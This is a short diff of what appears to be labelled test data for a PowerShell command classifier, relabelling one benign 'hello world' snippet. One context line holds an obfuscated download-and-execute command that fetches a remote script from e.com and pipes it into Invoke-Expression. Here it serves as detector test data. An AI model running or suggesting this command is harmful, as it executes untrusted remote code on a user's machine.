@@ -140,7 +140,7 @@ PIECES = [
     (_ps("$u = 'iwr http://e.com/a.ps1'; $r = ' | iex'; Invoke-Expression ($u + $r)"), 'DDDDD'),   # was KKKDD
     (_ps("$c = 'Get-'; $c += 'ChildItem'; iex $c"), 'KKKDD'),
     (_ps("$x = 'Get-Date'; iex $x"), 'KKKDD'),
-    (_ps('$n = "world"; Write-Output "hello $n"'), 'KKKDD'),
+    (_ps('$n = "world"; Write-Output "hello $n"'), 'AAAAA'),   # was KKKDD (round 42, pwshbenign42)
     (_ps("$x = 'Get-Process'; $y = ' | Sort-Object CPU'; iex ($x + $y)"), 'KKKDD'),
 ]
 
